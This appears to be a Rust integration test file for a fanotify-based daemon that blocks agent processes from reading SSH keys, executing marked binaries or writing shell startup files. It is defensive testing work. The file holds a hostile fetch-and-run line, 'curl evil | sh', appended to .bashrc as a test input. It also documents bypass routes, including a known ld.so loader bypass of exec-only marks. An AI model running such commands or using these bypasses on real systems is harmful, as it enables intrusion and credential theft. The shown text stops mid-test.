//! The fanotify tier against real processes on the running kernel: every block is an `EPERM`
//! that a separate process, running as another uid, gets from open(2) or execve(2).
//!
//! Needs root (fanotify permission events, setuid children, mounts); skipped otherwise.
//! Agents here are processes running as uid 65534; uid 65533 and root are not agents.

use std::collections::HashSet;
use std::ffi::CString;
use std::fs;
use std::os::fd::{AsFd, AsRawFd, RawFd};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, mpsc};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use oknekd::tiers::fanotify::{
    Access, AccessSet, Answer, DrainStats, FailMode, FanotifyTier, MarkReport, Matched, Outcome,
    PermissionRequest, Scope, Target, TierOptions,
};
use sha2::{Digest, Sha256};

const AGENT: u32 = 65534;
const OTHER: u32 = 65533;
const SECRET: &str = "SECRET-KEY-MATERIAL";

macro_rules! require_root {
    () => {
        // SAFETY: geteuid has no preconditions.
        if unsafe { libc::geteuid() } != 0 {
            eprintln!("skipped: needs root (fanotify permission events)");
            return;
        }
    };
}

/// What the test's `decide` saw.
#[derive(Debug, Clone)]
struct Seen {
    uid: Option<u32>,
    access: Access,
    path: PathBuf,
    matched: Matched,
    rules: Vec<String>,
    flags: Option<u32>,
}

/// The test's stand-in for the daemon's rule evaluation.
#[derive(Default)]
struct Policy {
    agents: HashSet<u32>,
    /// Deny only opens that may write.
    writes_only: bool,
    /// Answer `Undecided` to everything.
    undecided: bool,
    /// Panic in decide.
    panic: bool,
    /// Content digests that may not be executed (for filesystem exec marks).
    blocked_sha256: Vec<[u8; 32]>,
    seen: Vec<Seen>,
}

impl Policy {
    fn decide(&mut self, req: &PermissionRequest<'_>) -> Answer {
        let uid = req.task().map(|t| t.uid);
        self.seen.push(Seen {
            uid,
            access: req.access,
            path: req.path.clone(),
            matched: req.matched,
            rules: req.rules().into_iter().map(str::to_owned).collect(),
            flags: req.open_flags(),
        });
        if self.panic {
            panic!("decide panicked on purpose");
        }
        if self.undecided {
            return Answer::Undecided;
        }
        let Some(uid) = uid else {
            return Answer::Undecided; // the process is gone
        };
        if !self.agents.contains(&uid) {
            return Answer::Allow;
        }
        if let Matched::Filesystem { .. } = req.matched {
            return match req.sha256() {
                Ok(d) if self.blocked_sha256.contains(&d) => Answer::Deny,
                Ok(_) => Answer::Allow,
                Err(_) => Answer::Undecided,
            };
        }
        if req.targets().is_empty() {
            return Answer::Allow;
        }
        if self.writes_only {
            let may_write = req
                .open_flags()
                .is_none_or(oknek_event::open_flags::is_write_intent);
            return if may_write {
                Answer::Deny
            } else {
                Answer::Allow
            };
        }
        Answer::Deny
    }
}

/// A panic inside `decide` (on purpose, in one test) poisons the policy lock; the data is fine.
fn lock<T>(m: &Mutex<T>) -> MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|e| e.into_inner())
}

/// A tier driven by its own thread, as the daemon's loop would: poll, drain, repeat.
struct Armed {
    tier: Arc<Mutex<FanotifyTier>>,
    policy: Arc<Mutex<Policy>>,
    stop: Arc<AtomicBool>,
    driver: Option<JoinHandle<()>>,
}

impl Armed {
    fn new(opts: TierOptions, targets: &[Target]) -> (Armed, MarkReport) {
        let mut tier = FanotifyTier::new(opts).expect("fanotify_init");
        let report = tier.set_targets(targets).expect("set_targets");
        let fd = tier.as_raw_fd();
        let tier = Arc::new(Mutex::new(tier));
        let policy = Arc::new(Mutex::new(Policy {
            agents: HashSet::from([AGENT]),
            ..Policy::default()
        }));
        let stop = Arc::new(AtomicBool::new(false));
        let driver = {
            let (tier, policy, stop) = (tier.clone(), policy.clone(), stop.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    if poll_readable(fd, 20) {
                        let mut t = lock(&tier);
                        t.drain(|req| lock(&policy).decide(req)).expect("drain");
                    }
                }
            })
        };
        (
            Armed {
                tier,
                policy,
                stop,
                driver: Some(driver),
            },
            report,
        )
    }

    fn set_targets(&self, targets: &[Target]) -> MarkReport {
        lock(&self.tier).set_targets(targets).unwrap()
    }

    fn totals(&self) -> DrainStats {
        lock(&self.tier).totals()
    }

    fn seen(&self) -> Vec<Seen> {
        lock(&self.policy).seen.clone()
    }

    fn policy(&self) -> MutexGuard<'_, Policy> {
        lock(&self.policy)
    }
}

impl Drop for Armed {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(d) = self.driver.take() {
            let _ = d.join();
        }
    }
}

fn poll_readable(fd: RawFd, timeout_ms: i32) -> bool {
    let mut p = libc::pollfd {
        fd,
        events: libc::POLLIN,
        revents: 0,
    };
    // SAFETY: one valid pollfd.
    unsafe { libc::poll(&mut p, 1, timeout_ms) > 0 }
}

/// A world-traversable scratch directory (tempfile makes 0700 ones).
fn scratch() -> tempfile::TempDir {
    let d = tempfile::Builder::new()
        .prefix("oknek-fan-")
        .tempdir()
        .unwrap();
    fs::set_permissions(d.path(), fs::Permissions::from_mode(0o755)).unwrap();
    d
}

fn write(path: &Path, content: &str, mode: u32) {
    if let Some(p) = path.parent() {
        fs::create_dir_all(p).unwrap();
        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
    }
    fs::write(path, content).unwrap();
    fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
}

/// Runs a command as `uid` (and gid `uid`), killing it if it takes longer than 20 s: a child
/// stuck in a permission event would otherwise hang the test.
fn run_as(uid: u32, prog: impl AsRef<std::ffi::OsStr>, args: &[&str]) -> std::io::Result<Output> {
    let mut cmd = Command::new(prog);
    cmd.args(args)
        .uid(uid)
        .gid(uid)
        .current_dir("/")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = cmd.spawn()?;
    let pid = child.id() as libc::pid_t;
    // Collect output on a thread (a full pipe would stall the child) and wait with a deadline.
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    match rx.recv_timeout(Duration::from_secs(20)) {
        Ok(out) => out,
        Err(_) => {
            // SAFETY: kill has no memory preconditions; the child is not reaped yet.
            unsafe { libc::kill(pid, libc::SIGKILL) };
            panic!("child {cmd:?} did not finish: an unanswered permission event?");
        }
    }
}

fn cat_as(uid: u32, path: &Path) -> Output {
    run_as(uid, "/bin/cat", &[path.to_str().unwrap()]).unwrap()
}

#[track_caller]
fn assert_eperm(out: &Output, what: &str) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && stderr.contains("Operation not permitted"),
        "{what}: expected EPERM, got {:?} stdout={:?} stderr={stderr:?}",
        out.status,
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(
        !String::from_utf8_lossy(&out.stdout).contains(SECRET),
        "{what}: secret leaked"
    );
}

#[track_caller]
fn assert_reads(out: &Output, expect: &str, what: &str) {
    assert!(
        out.status.success() && String::from_utf8_lossy(&out.stdout).contains(expect),
        "{what}: expected a successful read, got {:?} stderr={:?}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Mounts something and unmounts it (lazily) when dropped.
struct Mount(PathBuf);

impl Mount {
    fn new(src: &str, target: &Path, fstype: &str, flags: libc::c_ulong) -> Mount {
        let c = |s: &str| CString::new(s).unwrap();
        let (src, tgt, ty) = (c(src), c(target.to_str().unwrap()), c(fstype));
        // SAFETY: NUL-terminated strings valid for the call; no data argument.
        let rc = unsafe {
            libc::mount(
                src.as_ptr(),
                tgt.as_ptr(),
                ty.as_ptr(),
                flags,
                std::ptr::null(),
            )
        };
        assert_eq!(rc, 0, "mount: {}", std::io::Error::last_os_error());
        Mount(target.to_owned())
    }
}

impl Drop for Mount {
    fn drop(&mut self) {
        let c = CString::new(self.0.to_str().unwrap()).unwrap();
        // SAFETY: NUL-terminated path.
        unsafe { libc::umount2(c.as_ptr(), libc::MNT_DETACH) };
    }
}

fn file(path: &Path, access: AccessSet, rule: &str) -> Target {
    Target::new(path, Scope::File, access).with_rules([rule])
}

#[test]
fn every_name_of_a_protected_file_is_refused_to_agents() {
    require_root!();
    let dir = scratch();
    let root = dir.path();
    let key = root.join("home/.ssh/id_ed25519");
    let neighbour = root.join("home/.ssh/known_hosts");
    write(&key, SECRET, 0o644);
    write(&neighbour, "github.com ssh-ed25519 AAAA", 0o644);
    for d in ["home/sub", "links", "bind"] {
        fs::create_dir_all(root.join(d)).unwrap();
    }
    for d in ["home", "home/sub", "links", "bind"] {
        fs::set_permissions(root.join(d), fs::Permissions::from_mode(0o755)).unwrap();
    }

    let (armed, report) = Armed::new(
        TierOptions::default(),
        &[file(&key, AccessSet::OPEN, "R1-ssh-keys")],
    );
    assert_eq!(report.targets[0].outcome, Outcome::Marked, "{report:?}");
    assert_eq!(report.marks, 1);

    // Names made after arming: none of these operations opens the file.
    fs::hard_link(&key, root.join("links/hard")).unwrap();
    symlink(&key, root.join("links/sym")).unwrap();
    symlink("../home/.ssh/id_ed25519", root.join("links/relsym")).unwrap();

    let started = Instant::now();
    assert_eperm(&cat_as(AGENT, &key), "direct path");
    let direct_took = started.elapsed();
    assert_eperm(&cat_as(AGENT, &root.join("links/hard")), "hard link");
    assert_eperm(&cat_as(AGENT, &root.join("links/sym")), "absolute symlink");
    assert_eperm(
        &cat_as(AGENT, &root.join("links/relsym")),
        "relative symlink",
    );
    let via_proc = Path::new("/proc/self/root").join(key.strip_prefix("/").unwrap());
    assert_eperm(&cat_as(AGENT, &via_proc), "/proc/self/root path");
    assert_eperm(
        &cat_as(AGENT, &root.join("home/sub/../.ssh/./id_ed25519")),
        "'..' path",
    );
    {
        let _bind = Mount::new(
            root.join("home/.ssh").to_str().unwrap(),
            &root.join("bind"),
            "none",
            libc::MS_BIND,
        );
        assert_eperm(&cat_as(AGENT, &root.join("bind/id_ed25519")), "bind mount");
    }
    fs::rename(root.join("home/.ssh"), root.join("home/.ssh-renamed")).unwrap();
    assert_eperm(
        &cat_as(AGENT, &root.join("home/.ssh-renamed/id_ed25519")),
        "parent directory renamed",
    );
    fs::rename(root.join("home/.ssh-renamed"), root.join("home/.ssh")).unwrap();
    // Shell redirection and dd open the file their own way; same answer.
    let out = run_as(
        AGENT,
        "/bin/sh",
        &["-c", &format!("read l < '{}'", key.display())],
    )
    .unwrap();
    assert!(!out.status.success(), "shell redirect read");
    let out = run_as(
        AGENT,
        "/bin/dd",
        &[&format!("if={}", key.display()), "status=none"],
    )
    .unwrap();
    assert_eperm(&out, "dd");

    // The file next to it is not marked: no event at all.
    let before = armed.totals().events;
    assert_reads(
        &cat_as(AGENT, &neighbour),
        "github.com",
        "unprotected neighbour",
    );
    assert_eq!(
        armed.totals().events,
        before,
        "an unprotected file raised an event"
    );

    // A process that is not an agent is asked about and allowed.
    assert_reads(&cat_as(OTHER, &key), SECRET, "non-agent");
    assert_reads(
        &cat_as(OTHER, &root.join("links/hard")),
        SECRET,
        "non-agent, link",
    );

    let seen = armed.seen();
    let agent_seen: Vec<&Seen> = seen.iter().filter(|s| s.uid == Some(AGENT)).collect();
    assert!(agent_seen.len() >= 10, "{seen:#?}");
    for s in &agent_seen {
        assert_eq!(s.access, Access::Open);
        assert_eq!(s.matched, Matched::Object, "{s:?}");
        assert_eq!(s.rules, vec!["R1-ssh-keys".to_owned()]);
        assert!(
            s.path.ends_with("id_ed25519") || s.path.ends_with("hard"),
            "{s:?}"
        );
    }
    assert!(seen.iter().any(|s| s.uid == Some(OTHER)));

    let totals = armed.totals();
    assert_eq!(totals.own, 0, "the tier itself raised events: {totals:?}");
    assert_eq!(totals.fail_mode, 0, "{totals:?}");
    assert_eq!(totals.respond_errors, 0, "{totals:?}");
    assert!(totals.denied >= 10, "{totals:?}");
    // Bounded answers: the tier's read-to-answer time, and the whole denied cat.
    assert!(
        totals.max_latency_ns < 250_000_000,
        "slow answer: {} ms",
        totals.max_latency_ns / 1_000_000
    );
    assert!(direct_took < Duration::from_secs(5), "{direct_took:?}");
    eprintln!(
        "answered {} events, longest read-to-answer {} µs, denied cat took {:?}",
        totals.events,
        totals.max_latency_ns / 1000,
        direct_took
    );
}

#[test]
fn exec_of_a_marked_binary_is_refused() {
    require_root!();
    let dir = scratch();
    let bin = dir.path().join("bin");
    fs::create_dir(&bin).unwrap();
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o755)).unwrap();
    let blocked = bin.join("blocked-sh");
    let allowed = bin.join("allowed-sh");
    let both = bin.join("blocked-both-sh");
    for p in [&blocked, &allowed, &both] {
        fs::copy("/bin/sh", p).unwrap();
        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let (armed, report) = Armed::new(
        TierOptions::default(),
        &[
            file(&blocked, AccessSet::EXEC, "R3-exec"),
            file(&both, AccessSet::BOTH, "R3-exec-and-read"),
        ],
    );
    assert!(report.targets.iter().all(|t| t.is_armed()), "{report:?}");

    // The kernel refuses the execve itself: spawn reports the child's exec error.
    let err = run_as(AGENT, &blocked, &["-c", "exit 77"]).unwrap_err();
    assert_eq!(err.raw_os_error(), Some(libc::EPERM), "{err}");
    // Through a shell, the exit code 77 can only come from the blocked copy running.
    let script = format!("'{}' -c 'exit 77'", blocked.display());
    let out = run_as(AGENT, "/bin/sh", &["-c", &script]).unwrap();
    assert_ne!(out.status.code(), Some(77), "the blocked copy ran");
    assert!(String::from_utf8_lossy(&out.stderr).contains("Operation not permitted"));

    // The same bytes under an unmarked inode, and the marked one for a non-agent, run.
    let code = |out: std::io::Result<Output>| out.unwrap().status.code();
    assert_eq!(code(run_as(AGENT, &allowed, &["-c", "exit 77"])), Some(77));
    assert_eq!(code(run_as(OTHER, &blocked, &["-c", "exit 77"])), Some(77));
    // An exec-only mark leaves reading alone.
    let out = cat_as(AGENT, &blocked);
    assert!(out.status.success() && out.stdout.len() > 1000);

    // Known limitation, pinned here: the dynamic loader maps an exec-only-marked binary
    // through a plain open, so `ld.so ./binary` runs it. Marking open too closes that.
    let ld = Path::new("/lib64/ld-linux-x86-64.so.2");
    if ld.exists() {
        let ld = ld.to_str().unwrap();
        let out = run_as(AGENT, ld, &[blocked.to_str().unwrap(), "-c", "exit 77"]);
        assert_eq!(code(out), Some(77), "ld.so dodges an exec-only mark");
        let out = run_as(AGENT, ld, &[both.to_str().unwrap(), "-c", "exit 77"]);
        assert_ne!(
            code(out),
            Some(77),
            "ld.so must not dodge an open+exec mark"
        );
    }
    let err = run_as(AGENT, &both, &["-c", "exit 77"]).unwrap_err();
    assert_eq!(err.raw_os_error(), Some(libc::EPERM));

    let seen = armed.seen();
    assert!(
        seen.iter().any(|s| s.access == Access::Exec
            && s.uid == Some(AGENT)
            && s.rules == ["R3-exec"]
            && s.path == blocked),
        "{seen:#?}"
    );
}

#[test]
fn filesystem_exec_mark_blocks_copies_by_content() {
    require_root!();
    let dir = scratch();
    let fsdir = dir.path().join("fs");
    fs::create_dir(&fsdir).unwrap();
    // A private tmpfs: the filesystem mark makes every exec on it ask, so keep it small.
    let _tmpfs = Mount::new("oknek-test", &fsdir, "tmpfs", 0);
    fs::set_permissions(&fsdir, fs::Permissions::from_mode(0o755)).unwrap();
    let copy = fsdir.join("innocent-name");
    let other = fsdir.join("true-copy");
    fs::copy("/bin/sh", &copy).unwrap();
    fs::copy("/bin/true", &other).unwrap();
    for p in [&copy, &other] {
        fs::set_permissions(p, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let target = Target::new(&fsdir, Scope::ExecFilesystem, AccessSet::EXEC).with_rules(["R5"]);
    let (armed, report) = Armed::new(TierOptions::default(), &[target]);
    assert!(
        matches!(report.targets[0].outcome, Outcome::Filesystem { .. }),
        "{report:?}"
    );
    assert_eq!(report.filesystems, 1);
    armed
        .policy()
        .blocked_sha256
        .push(Sha256::digest(fs::read("/bin/sh").unwrap()).into());

    let err = run_as(AGENT, &copy, &["-c", "exit 77"]).unwrap_err();
    assert_eq!(err.raw_os_error(), Some(libc::EPERM), "{err}");
    assert!(run_as(AGENT, &other, &[]).unwrap().status.success());
    let out = run_as(OTHER, &copy, &["-c", "exit 77"]).unwrap();
    assert_eq!(out.status.code(), Some(77));
    // A second copy is a new inode with the same digest.
    let copy2 = fsdir.join("again");
    fs::copy(&copy, &copy2).unwrap();
    let err = run_as(AGENT, &copy2, &["-c", "exit 77"]).unwrap_err();
    assert_eq!(err.raw_os_error(), Some(libc::EPERM));

    let seen = armed.seen();
    assert!(
        seen.iter().all(|s| s.access == Access::Exec
            && matches!(s.matched, Matched::Filesystem { .. })
            && s.rules == ["R5"]),
        "{seen:#?}"
    );
    // Opens on the filesystem are not marked: reading the copy raised nothing.
    let before = armed.totals().events;
    assert!(cat_as(AGENT, &copy).status.success());
    assert_eq!(armed.totals().events, before);
    // Unmarked, the filesystem's retired mark stays inert.
    let report = armed.set_targets(&[]);
    assert_eq!((report.filesystems, report.retired), (0, 1), "{report:?}");
    let out = run_as(AGENT, &copy, &["-c", "exit 77"]).unwrap();
    assert_eq!(out.status.code(), Some(77));
    assert_eq!(armed.totals().events, before);
}

#[test]
fn write_intent_comes_from_the_blocked_syscall() {
    require_root!();
    let dir = scratch();
    let rc = dir.path().join("home/.bashrc");
    write(&rc, "export PATH=/usr/bin\n", 0o666);
    let (armed, _) = Armed::new(
        TierOptions::default(),
        &[file(&rc, AccessSet::OPEN, "R2-no-writes")],
    );
    armed.policy().writes_only = true;

    assert!(cat_as(AGENT, &rc).status.success(), "reading is allowed");
    let script = format!("echo 'curl evil | sh' >> '{}'", rc.display());
    let out = run_as(AGENT, "/bin/sh", &["-c", &script]).unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("Operation not permitted"));
    assert!(!fs::read_to_string(&rc).unwrap().contains("evil"));

    let seen = armed.seen();
    let flags: Vec<Option<u32>> = seen.iter().map(|s| s.flags).collect();
    assert!(flags.contains(&Some(0)), "read flags: {seen:#?}");
    let wr = (libc::O_WRONLY | libc::O_CREAT | libc::O_APPEND) as u32;
    assert!(
        flags.iter().flatten().any(|&f| f & wr == wr),
        "write flags: {seen:#?}"
    );
}

#[test]
fn a_file_created_later_is_awaited_by_name_then_marked() {
    require_root!();
    let dir = scratch();
    let home = dir.path().join("home");
    let ssh = home.join(".ssh");
    let neighbour = ssh.join("known_hosts");
    write(&neighbour, "github.com ssh-ed25519 AAAA", 0o644);
    let key = ssh.join("id_ed25519");
    let dangling = home.join("key-link");
    let later = home.join("later");
    symlink(&later, &dangling).unwrap();

    let (armed, report) = Armed::new(
        TierOptions::default(),
        &[
            file(&key, AccessSet::OPEN, "R1"),
            file(&dangling, AccessSet::OPEN, "R1b"),
        ],
    );
    assert_eq!(
        report.targets[0].outcome,
        Outcome::AwaitingCreation {
            parent: ssh.clone()
        }
    );
    // A dangling symlink awaits the name its target will have.
    assert_eq!(
        report.targets[1].outcome,
        Outcome::AwaitingCreation {
            parent: home.clone()
        }
    );

    // Created by a process that is not an agent (allowed, and that open marks the inode).
    let create = format!(
        "umask 022; echo {SECRET} > '{}'; echo {SECRET} > '{}'",
        key.display(),
        later.display()
    );
    assert!(
        run_as(0, "/bin/sh", &["-c", &create])
            .unwrap()
            .status
            .success()
    );
    assert_eperm(&cat_as(AGENT, &key), "awaited file");
    assert_eperm(&cat_as(AGENT, &dangling), "awaited symlink target");
    fs::hard_link(&key, home.join("other-name")).unwrap();
    assert_eperm(
        &cat_as(AGENT, &home.join("other-name")),
        "hard link to the promoted inode",
    );
    // Other entries of the awaiting directory ask, but are allowed without a decision.
    assert_reads(&cat_as(AGENT, &neighbour), "github.com", "neighbour");
    let totals = armed.totals();
    assert!(totals.promoted >= 2, "{totals:?}");
    assert!(totals.neighbors >= 1, "{totals:?}");
    assert!(
        armed
            .seen()
            .iter()
            .any(|s| matches!(s.matched, Matched::Name { .. }) && s.rules == ["R1"])
    );
}

#[test]
fn a_prefix_covers_its_tree_and_its_inodes() {
    require_root!();
    let dir = scratch();
    let secrets = dir.path().join("secrets");
    for f in ["a", "d1/b", "d1/d2/c"] {
        write(&secrets.join(f), SECRET, 0o644);
    }
    write(&dir.path().join("public"), "public data", 0o644);
    let (armed, report) = Armed::new(
        TierOptions::default(),
        &[Target::new(&secrets, Scope::Prefix, AccessSet::OPEN).with_rules(["R4"])],
    );
    assert_eq!(
        report.targets[0].outcome,
        Outcome::Prefix { dirs: 3, files: 3 },
        "{report:?}"
    );

    for f in ["a", "d1/b", "d1/d2/c", "d1/../d1/d2/./c"] {
        assert_eperm(&cat_as(AGENT, &secrets.join(f)), f);
    }
    // A file created after marking is caught by its directory's mark.
    let new = secrets.join("d1/new");
    let create = format!("umask 022; echo {SECRET} > '{}'", new.display());
    assert!(
        run_as(0, "/bin/sh", &["-c", &create])
            .unwrap()
            .status
            .success()
    );
    assert_eperm(&cat_as(AGENT, &new), "new file");
    // Inode identity survives leaving the tree.
    let out = dir.path();
    fs::hard_link(secrets.join("a"), out.join("a-link")).unwrap();
    assert_eperm(
        &cat_as(AGENT, &out.join("a-link")),
        "hard link out of the tree",
    );
    fs::rename(secrets.join("d1/b"), out.join("b-moved")).unwrap();
    assert_eperm(
        &cat_as(AGENT, &out.join("b-moved")),
        "renamed out of the tree",
    );
    fs::rename(&new, out.join("new-moved")).unwrap();
    assert_eperm(
        &cat_as(AGENT, &out.join("new-moved")),
        "promoted, then moved out",
    );

    let before = armed.totals().events;
    assert_reads(
        &cat_as(AGENT, &out.join("public")),
        "public",
        "outside the prefix",
    );
    assert_eq!(armed.totals().events, before);
    assert!(armed.seen().iter().all(|s| s.rules == ["R4"]));
}

#[test]
fn remarking_never_opens_a_window() {
    require_root!();
    let dir = scratch();
    let ssh = dir.path().join("ssh");
    let key = ssh.join("id_ed25519");
    write(&key, SECRET, 0o644);
    write(&ssh.join("config"), "Host *", 0o644);
    let extra = dir.path().join("extra");
    write(&extra, "x", 0o644);

    // Each set protects the key differently, so every swap adds and removes marks or bits —
    // in particular the directory's FAN_EVENT_ON_CHILD mark comes and goes while the key's
    // own mark stays. (Destroying that directory mark outright let about one open in a
    // thousand through: the kernel skips a permission event that races with the deletion of
    // any mark it is reported to.)
    let sets: Vec<Vec<Target>> = vec![
        vec![file(&key, AccessSet::OPEN, "A")],
        vec![Target::new(&ssh, Scope::Prefix, AccessSet::OPEN).with_rules(["B"])],
        vec![
            file(&key, AccessSet::BOTH, "C"),
            file(&extra, AccessSet::OPEN, "C2"),
        ],
        vec![
            Target::new(&ssh, Scope::Prefix, AccessSet::BOTH).with_rules(["D"]),
            file(&key, AccessSet::OPEN, "D2"),
        ],
    ];
    let (armed, _) = Armed::new(TierOptions::default(), &sets[0]);

    let script = format!(
        "i=0; while [ $i -lt 1500 ]; do cat '{}' 2>/dev/null; i=$((i+1)); done; echo done",
        key.display()
    );
    let (tx, rx) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        let out = run_as(AGENT, "/bin/sh", &["-c", &script]).unwrap();
        tx.send(()).unwrap();
        out
    });
    let mut swaps = 0;
    while rx.try_recv().is_err() {
        let report = armed.set_targets(&sets[swaps % sets.len()]);
        assert!(report.targets.iter().all(|t| t.is_armed()), "{report:?}");
        assert!(report.kept >= 1, "the key's mark must be kept: {report:?}");
        swaps += 1;
        std::thread::sleep(Duration::from_micros(100));
    }
    let out = reader.join().unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("done"));
    assert!(
        !stdout.contains(SECRET),
        "a read succeeded during a re-mark"
    );
    let totals = armed.totals();
    assert!(totals.denied >= 1500, "{totals:?}");
    assert!(swaps >= 100, "only {swaps} swaps happened during the reads");
    eprintln!("{swaps} re-marks during 1500 denied reads");

    // After the last set goes away, the key is readable again; the retired marks are inert.
    let report = armed.set_targets(&[]);
    assert_eq!(report.marks, 0);
    assert!(report.retired >= 1, "{report:?}");
    let before = armed.totals().events;
    assert_reads(&cat_as(AGENT, &key), SECRET, "unprotected again");
    assert_reads(
        &cat_as(AGENT, &ssh.join("config")),
        "Host",
        "unprotected again",
    );
    assert_eq!(
        armed.totals().events,
        before,
        "a retired mark raised an event"
    );
}

/// The agent adds and removes inotify watches on the protected file and its directory as
/// fast as it can while opening the file: other groups' marks coming and going on the same
/// objects must not let a permission event of ours pass.
#[test]
fn mark_churn_by_the_agent_does_not_open_a_window() {
    require_root!();
    if !Path::new("/usr/bin/python3").exists() {
        eprintln!("skipped: needs /usr/bin/python3 to drive the churn");
        return;
    }
    let dir = scratch();
    let ssh = dir.path().join("ssh");
    let key = ssh.join("id_ed25519");
    write(&key, SECRET, 0o644);
    let churn = dir.path().join("churn.py");
    let opener = dir.path().join("opener.py");
    write(
        &churn,
        "import ctypes, os, sys, time\n\
         libc = ctypes.CDLL(None, use_errno=True)\n\
         fd = libc.inotify_init1(os.O_NONBLOCK)\n\
         end = time.time() + float(sys.argv[2])\n\
         while time.time() < end:\n\
         \x20   for p in sys.argv[1].split(':'):\n\
         \x20       wd = libc.inotify_add_watch(fd, p.encode(), 0x20)\n\
         \x20       if wd >= 0: libc.inotify_rm_watch(fd, wd)\n",
        0o644,
    );
    write(
        &opener,
        "import os, sys, time\n\
         end = time.time() + float(sys.argv[2]); ok = denied = 0\n\
         while time.time() < end:\n\
         \x20   try:\n\
         \x20       os.close(os.open(sys.argv[1], os.O_RDONLY)); ok += 1\n\
         \x20   except PermissionError:\n\
         \x20       denied += 1\n\
         print(ok, denied)\n",
        0o644,
    );
    let (armed, _) = Armed::new(TierOptions::default(), &[file(&key, AccessSet::OPEN, "R1")]);
    let script = format!(
        "python3 '{}' '{}:{}' 2 & python3 '{}' '{}' 2; wait",
        churn.display(),
        ssh.display(),
        key.display(),
        opener.display(),
        key.display()
    );
    let out = run_as(AGENT, "/bin/sh", &["-c", &script]).unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let mut counts = stdout.split_whitespace().map(|n| n.parse::<u64>().unwrap());
    let (ok, denied) = (counts.next().unwrap(), counts.next().unwrap());
    eprintln!("{denied} opens denied under mark churn, {ok} allowed");
    assert_eq!(ok, 0, "opens got through while marks churned");
    assert!(denied > 1000, "too few attempts to mean anything: {denied}");
    assert_eq!(armed.totals().fail_mode, 0);
}

#[test]
fn fail_mode_applies_when_no_decision_is_made() {
    require_root!();
    let dir = scratch();
    let key = dir.path().join("key");
    write(&key, SECRET, 0o644);
    let (armed, _) = Armed::new(TierOptions::default(), &[file(&key, AccessSet::OPEN, "R")]);
    armed.policy().undecided = true;
    assert_eperm(&cat_as(OTHER, &key), "undecided, fail closed");
    lock(&armed.tier).set_fail_mode(FailMode::Open);
    assert_reads(&cat_as(AGENT, &key), SECRET, "undecided, fail open");
    lock(&armed.tier).set_fail_mode(FailMode::Closed);
    armed.policy().undecided = false;
    armed.policy().panic = true;
    assert_eperm(&cat_as(OTHER, &key), "decide panicked, fail closed");
    let t = armed.totals();
    assert_eq!(t.fail_mode, 3, "{t:?}");
    assert_eq!(t.decide_panics, 1, "{t:?}");
    assert_eq!((t.allowed, t.denied), (1, 2), "{t:?}");
}

#[test]
fn dropping_the_tier_answers_what_is_pending() {
    require_root!();
    let dir = scratch();
    let key = dir.path().join("key");
    write(&key, SECRET, 0o644);
    for (mode, denied) in [(FailMode::Closed, true), (FailMode::Open, false)] {
        let mut tier = FanotifyTier::new(TierOptions {
            fail_mode: mode,
            ..TierOptions::default()
        })
        .unwrap();
        tier.set_targets(&[file(&key, AccessSet::OPEN, "R")])
            .unwrap();
        let key2 = key.clone();
        let reader = std::thread::spawn(move || cat_as(AGENT, &key2));
        // The cat is now waiting in the kernel for an answer nobody is giving.
        assert!(poll_readable(tier.as_raw_fd(), 10_000), "no event arrived");
        drop(tier);
        let out = reader.join().unwrap();
        if denied {
            assert_eperm(&out, "pending at drop, fail closed");
        } else {
            assert_reads(&out, SECRET, "pending at drop, fail open");
        }
    }
}

#[test]
fn the_tier_never_waits_for_itself() {
    require_root!();
    let dir = scratch();
    let tree = dir.path().join("tree");
    for f in ["a", "s/b", "s/t/c"] {
        write(&tree.join(f), SECRET, 0o644);
    }
    let key = dir.path().join("key");
    write(&key, SECRET, 0o644);
    let (tree2, key2) = (tree.clone(), key.clone());
    // Marking, re-marking (listing marked directories, resolving marked files) and unmarking
    // with nobody draining: any open of a marked object here would hang this thread.
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        let mut tier = FanotifyTier::new(TierOptions::default()).unwrap();
        let a = [
            Target::new(&tree2, Scope::Prefix, AccessSet::BOTH),
            file(&key2, AccessSet::BOTH, "R"),
        ];
        let b = [
            file(&tree2.join("s/b"), AccessSet::OPEN, "R"),
            Target::new(&tree2, Scope::Prefix, AccessSet::OPEN),
        ];
        for _ in 0..3 {
            tier.set_targets(&a).unwrap();
            tier.set_targets(&b).unwrap();
        }
        tier.set_targets(&a).unwrap();
        // Nothing was queued by our own work.
        let stats = tier.drain(|_| Answer::Deny).unwrap();
        tx.send((stats, tier)).unwrap();
    });
    let (stats, tier) = rx
        .recv_timeout(Duration::from_secs(30))
        .expect("set_targets waited for its own permission events");
    assert_eq!(stats.events, 0, "{stats:?}");
    assert_eq!(tier.marks(), 7);

    // Another thread of the daemon's process opening a protected file is allowed without a
    // decision (it cannot be an agent), so it never waits on a decision that denies it.
    let tier = Arc::new(Mutex::new(tier));
    let fd = lock(&tier).as_fd().as_raw_fd();
    let stop = Arc::new(AtomicBool::new(false));
    let driver = {
        let (tier, stop) = (tier.clone(), stop.clone());
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                if poll_readable(fd, 20) {
                    lock(&tier).drain(|_| Answer::Deny).unwrap();
                }
            }
        })
    };
    assert_eq!(fs::read_to_string(&key).unwrap(), SECRET);
    stop.store(true, Ordering::Relaxed);
